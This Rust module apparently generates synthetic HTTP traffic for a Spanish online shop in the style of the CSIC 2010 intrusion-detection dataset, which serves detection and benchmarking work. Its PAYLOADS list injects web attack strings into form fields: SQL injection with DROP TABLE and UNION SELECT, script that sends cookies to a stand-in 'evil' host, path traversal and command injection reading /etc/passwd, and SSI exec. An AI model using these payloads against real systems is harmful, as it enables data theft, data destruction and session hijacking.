//! A shop's pages and forms, in the manner of CSIC 2010: 621 bytes in the mean.

use super::random::Random;
use super::{HEX_UPPER, LOWER, form_encoded, form_encoded_latin1, join};

const PAGES: &[&(&str, &[&str])] = &[
    &("index.jsp", &[]),
    &("publico/anadir.jsp", &["id", "nombre", "precio", "cantidad", "B1"]),
    &("publico/pagar.jsp", &["modo", "precio", "B1"]),
    &("publico/caracteristicas.jsp", &["id"]),
    &(
        "publico/registro.jsp",
        &[
            "modo",
            "login",
            "password",
            "nombre",
            "apellidos",
            "email",
            "dni",
            "direccion",
            "ciudad",
            "cp",
            "provincia",
            "ntc",
            "B1",
        ],
    ),
    &("publico/entrar.jsp", &["errorMsg"]),
    &("publico/vaciar.jsp", &["B2"]),
    &("miembros/editar.jsp", &["modo", "login", "pwd", "remember", "B1"]),
];

/// Payloads that attacks put in a field.
pub(super) const PAYLOADS: &[&str] = &[
    "'; DROP TABLE usuarios; SELECT * FROM datos WHERE nombre LIKE '%",
    "' OR '1'='1",
    "1 UNION SELECT NULL,version(),user()--",
    "bob@<SCRipt>alert(Paros)</scrIPT>.parosproxy.org",
    "<script>document.location='http://evil/'+document.cookie</script>",
    "../../../../etc/passwd\0",
    "|cat /etc/passwd",
    "Set-cookie: Tamper=1041264011025374727",
    r#"<!--#EXEC cmd="dir \"-->"#,
];

pub(super) fn request(random: &mut Random) -> Vec<u8> {
    let (page, keys) = random.choice(PAGES);
    let mut values: Vec<(&str, String)> = keys.iter().map(|key| (*key, value(random, key))).collect();
    if !values.is_empty() && random.chance(0.4) {
        let attacked = random.count(0, values.len() - 1);
        values[attacked].1 = form_encoded(random.choice(PAYLOADS).as_bytes());
    }
    let fields: Vec<String> = values.iter().map(|(key, value)| format!("{key}={value}")).collect();
    let form = fields.join("&");
    let posted = !values.is_empty() && random.chance(0.5);
    let mut url = format!("http://localhost:8080/tienda1/{page}");
    if !values.is_empty() && !posted {
        url = format!("{url}?{form}");
    }
    let method = if posted { "POST" } else { "GET" };
    let mut lines: Vec<String> = [
        "User-Agent: Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)",
        "Pragma: no-cache",
        "Cache-control: no-cache",
        "Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5",
        "Accept-Encoding: x-gzip, x-deflate, gzip, deflate",
        "Accept-Charset: utf-8, utf-8;q=0.5, *;q=0.5",
        "Accept-Language: en",
        "Host: localhost:8080",
    ]
    .map(str::to_owned)
    .to_vec();
    lines.insert(0, format!("{method} {url} HTTP/1.1"));
    lines.push(format!("Cookie: JSESSIONID={}", random.string(HEX_UPPER, 32)));
    if posted {
        lines.push("Content-Type: application/x-www-form-urlencoded".to_owned());
    }
    lines.push("Connection: close".to_owned());
    if posted {
        lines.push(format!("Content-Length: {}", form.len()));
    }
    join(&lines, if posted { form.as_bytes() } else { b"" }, "\r\n")
}

fn value(random: &mut Random, key: &str) -> String {
    match key {
        "id" | "precio" | "cantidad" | "cp" => random.number(1, 99_999).to_string(),
        "nombre" => form_encoded_latin1(random.choice(&[
            "Jamón Ibérico",
            "Queso Manchego",
            "Vino Rioja",
            "Aceite de oliva",
        ])),
        "B1" => form_encoded_latin1(random.choice(&[
            "Añadir al carrito",
            "Pasar por caja",
            "Entrar",
            "Registrar",
        ])),
        "email" => {
            let (user, host) = (random.string(LOWER, 8), random.string(LOWER, 6));
            form_encoded(format!("{user}@{host}.es").as_bytes())
        }
        "dni" => format!("{:08}X", random.number(0, 99_999_999)),
        "ntc" => format!("{:016}", random.number(0, 9_999_999_999_999_999)),
        "direccion" => {
            let (street, number) = (random.string(LOWER, 9), random.number(1, 99));
            form_encoded_latin1(&format!("C/ {street}, {number} 2ºB"))
        }
        "apellidos" | "ciudad" | "provincia" => form_encoded_latin1(random.choice(&[
            "Pérez García",
            "Alcázar de San Juan",
            "La Rioja",
            "Collado-Villalba",
        ])),
        "modo" => random.choice(&["insertar", "entrar", "registro"]).to_owned(),
        _ => {
            let length = random.count(4, 12);
            random.string(LOWER, length)
        }
    }
}
